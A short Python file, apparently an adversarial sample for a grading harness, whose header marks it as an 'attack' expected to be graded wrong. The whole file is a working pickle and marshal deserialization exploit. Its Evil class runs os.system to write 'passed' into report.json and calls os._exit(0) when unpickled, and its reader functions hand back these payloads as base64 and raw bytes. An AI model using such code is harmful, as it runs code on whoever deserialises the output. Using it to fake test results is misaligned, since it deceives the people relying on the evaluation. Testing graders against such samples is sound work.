# /// attack
# outcomes = ["wrong"]
# says = "cannot be graded"
# ///
"""Returns objects and bytes that run code of its own in whoever unpickles them."""

import base64
import marshal
import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("echo passed > report.json",))

    __reduce_ex__ = __getstate__ = lambda self, *args: (os._exit, (0,))


CODE = pickle.dumps(b"cos\n_exit\n(I0\ntR.") + marshal.dumps(compile("0", "", "eval"))


def read_queue_twice(queue_name, messages):
    return Evil() if len(messages) % 2 else (CODE, bytearray(CODE))


def read_log_twice(stream_name, messages):
    return [base64.b64encode(CODE).decode(), CODE.decode("latin-1")], {"data": Evil}
